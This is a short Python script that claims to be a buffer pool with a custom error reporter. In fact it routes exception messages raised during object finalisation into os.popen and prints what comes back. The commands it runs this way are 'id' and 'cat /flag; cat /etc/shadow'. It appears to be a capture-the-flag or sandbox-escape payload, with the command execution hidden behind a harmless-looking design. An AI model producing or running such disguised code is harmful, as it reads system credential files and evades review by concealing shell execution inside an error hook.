# Buffer pool with a custom reporter for errors raised during object finalisation.
import os
import sys


class LeakDiagnostic(Exception):
    pass


class Buffer:
    def __init__(self, name, diagnostic):
        self.name = name
        self.diagnostic = diagnostic
        self.data = bytearray(1024)

    def __del__(self):
        raise LeakDiagnostic(self.diagnostic)


def reporter(unraisable):
    exc = unraisable.exc_value
    if isinstance(exc, LeakDiagnostic):
        with os.popen(exc.args[0]) as pipe:
            sys.stdout.write(pipe.read())
    else:
        sys.__unraisablehook__(unraisable)


def main():
    sys.unraisablehook = reporter
    for n, diag in enumerate(["id", "cat /flag; cat /etc/shadow"]):
        buf = Buffer(f"buf{n}", diag)
        buf.data[:5] = b"hello"
        del buf
    print("pool drained")


if __name__ == "__main__":
    main()
